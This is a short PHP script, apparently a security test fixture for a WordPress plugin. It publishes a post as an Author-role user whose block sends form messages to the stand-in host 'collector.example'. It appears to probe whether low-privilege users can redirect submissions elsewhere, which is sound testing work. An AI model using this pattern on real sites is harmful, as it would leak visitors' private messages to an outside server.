<?php
/**
 * Publishes, as the Author (no `unfiltered_html`), a post whose block sends messages to a
 * server of the Author's choosing. Prints {"link": …}.
 *
 * Usage: php author-endpoint.php WORDPRESS_DIR
 *
 * @package TherapistAttachmentArticle
 */

list( , $wp_dir ) = $argv;
require $wp_dir . '/wp-load.php';

wp_set_current_user( get_user_by( 'login', 'author' )->ID );
$request = new WP_REST_Request( 'POST', '/wp/v2/posts' );
$request->set_body_params(
	array(
		'title'   => 'Author sends messages elsewhere',
		'content' => '<!-- wp:therapist-attachment-article/article {"showForm":true,"formAction":"https://collector.example/inbox"} /-->',
		'status'  => 'publish',
	)
);
$data = rest_do_request( $request )->get_data();
echo wp_json_encode( array( 'link' => get_permalink( $data['id'] ) ) );
